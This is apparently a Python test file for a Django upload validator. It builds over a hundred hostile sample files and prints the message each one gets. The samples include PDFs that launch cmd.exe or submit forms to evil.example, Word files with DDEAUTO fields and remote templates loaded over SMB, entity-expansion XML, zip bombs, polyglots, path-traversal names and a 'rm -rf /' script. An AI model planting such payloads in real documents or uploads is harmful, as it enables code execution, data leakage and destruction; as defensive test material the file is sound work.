"""Hostile uploads, and what each gets: `.venv/bin/python -m tests.documents.hostile` prints the table."""

import os
import struct
import zipfile
from dataclasses import dataclass
from io import BytesIO

import pikepdf

from tests.files import samples

HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
PROGRAM = b"MZ\x90\0" + b"\0" * 200
ZIP = samples.archive([("evil.class", b"\xca\xfe\xba\xbe")])
MANIFEST = ("META-INF/manifest.xml", b"<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>")


@dataclass(frozen=True)
class Hostile:
    """`fragment` is a part of what its editor must read."""

    what: str
    name: str
    data: bytes
    fragment: str

    def __str__(self):
        return self.what


def patched(data, signature, offset, form, value):
    """A ZIP archive with one field of each header with that signature changed."""
    data = bytearray(data)
    position = data.find(signature)
    while position >= 0:
        struct.pack_into(form, data, position + offset, value)
        position = data.find(signature, position + 4)
    return bytes(data)


def declared(size, data):
    """An archive whose directory says that each part unpacks to `size` bytes."""
    return patched(patched(data, b"PK\x01\x02", 24, "<I", size), b"PK\x03\x04", 22, "<I", size)


def encrypted(data):
    return patched(patched(data, b"PK\x01\x02", 8, "<H", 1), b"PK\x03\x04", 6, "<H", 1)


def bomb():
    """50 kB that would unpack to 3,000 MB, by what its directory says."""
    return declared(3_000_000_000, samples.open_xml(extra=[("word/media/image1.bin", b"\0" * 50_000_000)]))


def many_parts():
    return samples.open_xml(extra=[(f"part{number}", b"") for number in range(6000)])


def twice_the_same():
    file = BytesIO(samples.open_xml())
    with zipfile.ZipFile(file, "a") as made:
        info = zipfile.ZipInfo("word/document.xml")
        made.filelist = [entry for entry in made.filelist if entry.filename != info.filename] + [made.getinfo(info.filename)] * 2
        made._didModify = True
    return file.getvalue()


def zip_within_pdf():
    """A PDF whose last stream is an archive, with the PDF's end in the archive's comment."""
    file = BytesIO(samples.PDF[:-6])
    with zipfile.ZipFile(file, "a") as made:
        made.writestr("evil.class", b"\xca\xfe\xba\xbe")
        made.comment = b"\nstartxref\n97\n%%EOF\n"
    return file.getvalue()


def loading(kind, target):
    return samples.open_xml(extra=[("word/_rels/document.xml.rels", samples.relation(kind, target))])


def with_action(action):
    return samples.pdf(b"/OpenAction<<" + action + b">>")


def linked(target):
    """A PDF with a link, in a compressed object stream that its table of places leads to, encrypted with an empty password."""
    made, file = pikepdf.new(), BytesIO()
    made.add_blank_page()
    action = made.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(target)))
    made.Root.Outlines = pikepdf.Dictionary(A=action)
    made.save(file, object_stream_mode=pikepdf.ObjectStreamMode.generate, encryption=pikepdf.Encryption(owner="x", user=""))
    return file.getvalue()


def word(*extra, body=b""):
    return samples.open_xml(extra=[("word/footer1.xml", b"<w:f xmlns:w='w'>" + body + b"</w:f>"), *extra])


def field(*runs):
    """A field of Word whose instruction is spread over these runs."""
    marks = {name: b"<w:fldChar w:fldCharType='" + name + b"'/>" for name in (b"begin", b"end")}
    return word(body=marks[b"begin"] + b"".join(b"<w:instrText>" + run + b"</w:instrText>" for run in runs) + marks[b"end"])


def open_text(content):
    return samples.archive([("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", content)])


LAUGHS = '<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><d>&b;</d>'
COMPOUND = samples.compound()
WORKBOOK = "xl/workbook.xml"
MACRO_SHEET = samples.open_xml(WORKBOOK, extra=[("xl/vbaProject.bin", b"x")])
NESTED = word(("word/embeddings/b.docx", samples.open_xml()))


def excel_link(content):
    return samples.open_xml(WORKBOOK, extra=[("xl/externalLinks/externalLink1.xml", b"<externalLink>" + content + b"</externalLink>")])


ENDS = "are not accepted"
TWO_ENDINGS = "has two endings"
RENAME = "Please rename the file"
NOT_WHAT = "its content is not"
MARKUP = "it holds HTML, SVG or a script"
ATTACHED = "something else is attached"
HIDDEN = "an archive is hidden in it"

CASES = [
    Hostile("HTML page", "page.html", HTML, ENDS),
    Hostile("SVG picture with a script", "picture.svg", SVG, ENDS),
    Hostile("XHTML under a harmless-looking ending", "page.xhtml", HTML, ENDS),
    Hostile("JavaScript", "code.js", b"alert(1)", ENDS),
    Hostile("program", "setup.exe", PROGRAM, ENDS),
    Hostile("plain archive", "all.zip", ZIP, ENDS),
    Hostile("Word file with macros by its ending", "form.docm", samples.open_xml(), ENDS),
    Hostile("no ending", "report", samples.PDF, RENAME),
    Hostile("program after a PDF's ending", "report.pdf.exe", PROGRAM, ENDS),
    Hostile("program before a PDF's ending", "report.exe.pdf", samples.PDF, TWO_ENDINGS),
    Hostile("script before a picture's ending", "picture.php.png", samples.png(), TWO_ENDINGS),
    Hostile("ending hidden by a space", "report.html .pdf", samples.PDF, TWO_ENDINGS),
    Hostile("NUL in the name", "report.exe\0.pdf", samples.PDF, "U+0000"),
    Hostile("direction override", "report\u202efdp.txt", b"text", "U+202E"),
    Hostile("zero-width space", "re\u200bport.pdf", samples.PDF, "U+200B"),
    Hostile("lone surrogate", "re\ud800port.pdf", samples.PDF, "U+D800"),
    Hostile("line feed in the name", "report\r\nX-Evil: 1.pdf", samples.PDF, "U+000D"),
    Hostile("device name", "CON.pdf", samples.PDF, "name of a device"),
    Hostile("device name before a space", "NUL .pdf", samples.PDF, "name of a device"),
    Hostile("device name with number", "lpt1.txt", b"text", "name of a device"),
    Hostile("upwards path", "../../etc/passwd.txt", b"text", RENAME),
    Hostile("Windows path", "C:\\windows\\report.pdf", samples.PDF, RENAME),
    Hostile("encoded path", "..%2f..%2freport.pdf", samples.PDF, RENAME),
    Hostile("second stream of a file", "report.pdf:evil.exe", samples.PDF, ENDS + "|" + RENAME),
    Hostile("quotes and tags", '"><script>.pdf', samples.PDF, RENAME),
    Hostile("hidden file", ".pdf", samples.PDF, RENAME),
    Hostile("dot at the end", "report.pdf.", samples.PDF, ENDS),
    Hostile("like an option", "-rf.pdf", samples.PDF, RENAME),
    Hostile("name of 500 letters", "a" * 500 + ".pdf", samples.PDF, "longer than 150"),
    Hostile("wide full stop", "report．pdf", samples.PDF, RENAME),
    Hostile("empty file", "report.pdf", b"", "is empty"),
    Hostile("more than 50 MB", "report.txt", b"a" * 50_000_001, "larger than 50.0 MB"),
    Hostile("HTML called PDF", "report.pdf", HTML, NOT_WHAT),
    Hostile("program called PDF", "report.pdf", PROGRAM, NOT_WHAT),
    Hostile("PDF that begins later", "report.pdf", b"MZ" + b"\0" * 98 + samples.PDF, NOT_WHAT),
    Hostile("PDF cut off", "report.pdf", samples.PDF[:-8], "cut off"),
    Hostile(
        "PDF with a script",
        "report.pdf",
        with_action(b"/S/JavaScript/JS(app.alert(1))"),
        "scripts",
    ),
    Hostile(
        "PDF that starts programs",
        "report.pdf",
        with_action(b"/S/Launch/F(cmd.exe)"),
        "scripts",
    ),
    Hostile("PDF with a script, spelt with numbers", "report.pdf", with_action(b"/S/J#61vaScrip#74/JS(app.alert(1))"), "scripts"),
    Hostile("PDF with a script, compressed", "report.pdf", samples.object_stream(b"1 0 <</S/JavaScript/JS(app.alert(1))>>"), "scripts"),
    Hostile("PDF whose objects explode", "report.pdf", samples.object_stream(b"\0" * 101_000_000), "unpack to more than"),
    Hostile("PDF with a file in it", "report.pdf", with_action(b"/Names<</EmbeddedFiles 9 0 R>>"), "other files are packed"),
    Hostile("PDF with a file in it, compressed", "report.pdf", samples.object_stream(b"1 0 <</Type/EmbeddedFile>>"), "other files"),
    Hostile("PDF with a script by its key alone", "report.pdf", samples.pdf(b"/X<</JS(app.alert(1))>>"), "scripts or programs (/JS)"),
    Hostile("PDF with a form that sends", "report.pdf", with_action(b"/S/Submit#46orm/F(https://evil.example)"), "(/SubmitForm)"),
    Hostile("PDF that loads a form's data", "report.pdf", with_action(b"/S/ImportData/F(a.fdf)"), "(/ImportData)"),
    Hostile("PDF with an XFA form", "report.pdf", samples.pdf(b"/AcroForm<</Fields[]/XFA(<x/>)>>"), "an XFA form (/XFA)"),
    Hostile("PDF with a film", "report.pdf", samples.pdf(b"/X<</Subtype/Rich#4dedia>>"), "(/RichMedia"),
    Hostile("PDF with a script as a link", "report.pdf", linked(" java\nscript:alert(1)"), "scripts"),
    Hostile("PDF with a link to a network path", "report.pdf", linked("file://evil.example/a"), "another machine"),
    Hostile("PDF that opens an address by itself", "report.pdf", with_action(b"/S/URI/URI(https://evil.example)"), "by itself"),
    Hostile("PDF with a password", "report.pdf", samples.PDF.replace(b"/Root", b"/Encrypt<</Filter/Standard>>/Root"), "encrypted|damaged"),
    Hostile("Word with an OLE object", "form.docx", word(("word/embeddings/oleObject1.bin", COMPOUND)), "embeddings/oleObject1.bin"),
    Hostile("Word with an OLE object called a picture", "form.docx", word(("word/media/image1.png", COMPOUND)), "OLE: word/media"),
    Hostile("Word with a relation to an OLE object", "form.docx", loading("oleObject", "a.bin"), "OLE: a.bin"),
    Hostile("Word with entities", "form.docx", word(("word/x.xml", LAUGHS.encode())), "document type or entities in word/x.xml"),
    Hostile("Word with entities in UTF-16", "form.docx", word(("word/x.xml", LAUGHS.encode("utf-16"))), "document type or entities"),
    Hostile("Excel with entities in relations", "table.xlsx", samples.open_xml(WORKBOOK, extra=[("a.rels", LAUGHS.encode())]), "entities"),
    Hostile("OpenDocument with entities", "form.odt", open_text(LAUGHS.encode()), "document type or entities"),
    Hostile("Word that loads by an address in numbers", "form.docx", loading("image", "&#104;ttp://evil.example/a"), "another machine"),
    Hostile("Word that loads, named like a link", "form.docx", loading("image", "https://evil.example/hyperlink"), "another machine"),
    Hostile("Word that loads by SMB", "form.docx", loading("attachedTemplate", r"file:///\\evil.example\t.dotm"), "another machine"),
    Hostile("Word with a script as a link", "form.docx", loading("hyperlink", "javascript:alert(1)"), "macros"),
    Hostile("Word with DDE", "form.docx", field(b"DDEAUTO c:\\cmd.exe"), "DDE: field DDEAUTO"),
    Hostile("Word with DDE over several runs", "form.docx", field(b" D", b"D", b"E c:\\cmd.exe"), "DDE: field DDE"),
    Hostile("Word with DDE in one element", "form.docx", word(body=b"<w:fldSimple w:instr='DDE a b'/>"), "DDE: field DDE"),
    Hostile("Word with a field that loads", "form.docx", field(b'INCLUDEPICTURE "https://evil.example/a.png"'), "another machine"),
    Hostile("Excel with DDE", "table.xlsx", excel_link(b"<ddeLink ddeService='cmd' ddeTopic='/c calc'/>"), "DDE: cmd"),
    Hostile("document with macros in a document", "form.docx", word(("word/embeddings/a.xlsx", MACRO_SHEET)), "macros"),
    Hostile("document in a document in a document", "form.docx", word(("word/embeddings/a.docx", NESTED)), "within it"),
    Hostile("OpenDocument with DDE", "form.odt", open_text(b"<x xmlns:t='t' t:formula='of:=DDE(1)'/>"), "DDE"),
    Hostile("OpenDocument with an object", "form.odt", open_text(b"<d:object-ole xmlns:d='d'/>"), "OLE"),
    Hostile("OpenDocument that loads a picture", "form.odt", open_text(b"<d:image xmlns:d='d' d:href='http://evil/'/>"), "another machine"),
    Hostile("OpenDocument that runs at an event", "form.odt", open_text(b"<s:event-listener xmlns:s='s'/>"), "macros"),
    Hostile("old Word with a file packed in", "form.doc", samples.compound(extra="Ole10Native".encode("utf-16-le")), "OLE"),
    Hostile("PDF with HTML in it", "report.pdf", samples.PDF.replace(b"xref", b"%" + HTML + b"\nxref", 1), MARKUP),
    Hostile("PDF with an archive behind it", "report.pdf", samples.PDF + ZIP, ATTACHED),
    Hostile("PDF that is an archive too", "report.pdf", zip_within_pdf(), HIDDEN),
    Hostile("picture that is a PDF too", "picture.jpg", samples.jpeg(extra=samples.segment(0xFE, samples.PDF)), "read as a PDF"),
    Hostile("picture with an archive behind it", "picture.png", samples.png() + ZIP, ATTACHED),
    Hostile("picture with an archive inside", "picture.png", samples.png(extra=samples.chunk(b"tEXt", ZIP)), HIDDEN),
    Hostile("picture with a script in its comment", "photo.jpg", samples.jpeg(extra=samples.segment(0xFE, HTML)), MARKUP),
    Hostile("picture with PHP in it", "picture.png", samples.png(extra=samples.chunk(b"tEXt", b"<?php system(1);")), MARKUP),
    Hostile("photo with a page behind it", "photo.jpg", samples.jpeg() + HTML, ATTACHED),
    Hostile("SVG called PNG", "picture.png", SVG, NOT_WHAT),
    Hostile("GIF called PNG", "picture.png", b"GIF89a" + b"\0" * 40, NOT_WHAT),
    Hostile("PNG that explodes", "picture.png", samples.png(100_000, 100_000), "scale it down"),
    Hostile("JPEG that explodes", "photo.jpg", samples.jpeg(65_000, 65_000), "scale it down"),
    Hostile("WebP that explodes", "map.webp", samples.webp(16_000, 16_000), "scale it down"),
    Hostile("animated PNG", "picture.png", samples.png(extra=samples.chunk(b"acTL", b"\0\0\0\x09\0\0\0\0")), "animation"),
    Hostile("animated WebP", "map.webp", samples.webp(2, 2, (b"ANIM", b"\0" * 6)), "animation"),
    Hostile("archive called Word", "form.docx", ZIP, NOT_WHAT + "|it holds a program"),
    Hostile("Word called Excel", "table.xlsx", samples.open_xml(), NOT_WHAT),
    Hostile("archive bomb", "form.docx", bomb(), "would unpack to"),
    Hostile("archive that lies about its size", "form.docx", declared(10, samples.open_xml(extra=[("big", b"\0" * 5_000_000)])), "damaged"),
    Hostile("archive of 6,002 parts", "form.docx", many_parts(), "more parts"),
    Hostile("archive with one name twice", "form.docx", twice_the_same(), "damaged"),
    Hostile("archive with a way upwards", "form.docx", samples.open_xml(extra=[("../../evil.txt", b"x")]), "outside its folder"),
    Hostile("archive with a program", "form.odt", samples.open_document(extra=[("Pictures/setup.exe", PROGRAM)]), "it holds a program"),
    Hostile("encrypted archive", "form.docx", encrypted(samples.open_xml()), "encrypted"),
    Hostile("archive behind a program", "form.docx", PROGRAM + samples.open_xml(), NOT_WHAT),
    Hostile("archive with something behind it", "form.docx", samples.open_xml() + HTML, ATTACHED),
    Hostile("archive in a Word file", "form.docx", samples.open_xml(extra=[("word/embeddings/all.zip", ZIP)]), "an archive"),
    Hostile("Word that loads a template", "form.docx", loading("attachedTemplate", "https://evil.example/t.dotm"), "another machine"),
    Hostile("Word that loads a picture by SMB", "form.docx", loading("image", r"\\evil.example\a.png"), "another machine"),
    Hostile("Word with ActiveX", "form.docx", samples.open_xml(extra=[("word/activeX/activeX1.xml", b"<x/>")]), "macros"),
    Hostile("Word with macros", "form.docx", samples.open_xml(extra=[("word/vbaProject.bin", b"x")]), "macros"),
    Hostile("Excel that says macros", "table.xlsx", samples.open_xml("xl/workbook.xml", b"macroEnabled.main+xml"), "macros"),
    Hostile("Excel with macro sheets", "table.xlsx", samples.open_xml("xl/workbook.xml", extra=[("xl/macrosheets/s1.xml", b"")]), "macros"),
    Hostile("OpenDocument with a password", "form.odt", samples.open_document(extra=[MANIFEST]), "encrypted"),
    Hostile("OpenDocument with macros", "form.odt", samples.open_document(extra=[("Basic/Standard/Module1.xml", b"x")]), "macros"),
    Hostile("old Word with macros", "form.doc", samples.compound(extra="_VBA_PROJECT".encode("utf-16-le")), "macros"),
    Hostile("installer called Word", "form.doc", samples.compound("Installer"), NOT_WHAT),
    Hostile("CSV that is HTML", "table.csv", HTML, "not plain text"),
    Hostile("CSV with HTML further down", "table.csv", b"a,b\n" * 400_000 + b"1,<script>alert(1)</script>\n", MARKUP),
    Hostile("text with NUL", "notes.txt", b"a\0b", "U+0000"),
    Hostile("text in another encoding", "notes.txt", "Übersicht".encode("latin-1"), "UTF-8"),
    Hostile("shell script called text", "notes.txt", b"#!/bin/sh\nrm -rf /\n", "not plain text"),
    Hostile("HTML called MP3", "spoken.mp3", HTML, "not sound"),
    Hostile("HTML before an MP3", "spoken.mp3", samples.mp3(before=HTML), "not sound"),
    Hostile("HTML in an MP3's tag", "spoken.mp3", samples.mp3(before=samples.id3(HTML)), MARKUP),
    Hostile("MP3 with a program behind it", "spoken.mp3", samples.mp3(after=PROGRAM), "not sound"),
    Hostile("video in Ogg", "spoken.ogg", samples.ogg(b"\x80theora" + b"\0" * 20), "only Vorbis and Opus"),
    Hostile("Ogg with an archive behind it", "spoken.ogg", samples.ogg(after=ZIP), "not sound"),
]


def verdict(case):
    """What the editor reads, or that the file was accepted."""
    from django.core.exceptions import ValidationError

    from files import uploads

    try:
        uploads.accept(BytesIO(case.data), case.name)
    except ValidationError as error:
        return " ".join(error.messages)
    return "ACCEPTED"


def main():
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "tests.settings")
    import django

    django.setup()
    print("| what | file name | bytes | what its editor reads |\n|---|---|---:|---|")
    for case in CASES:
        name = ascii(case.name)[1:-1]
        print(f"| {case.what} | `{name[:40]}` | {len(case.data):,} | {ascii(verdict(case))[1:-1][:170]} |")


if __name__ == "__main__":
    main()
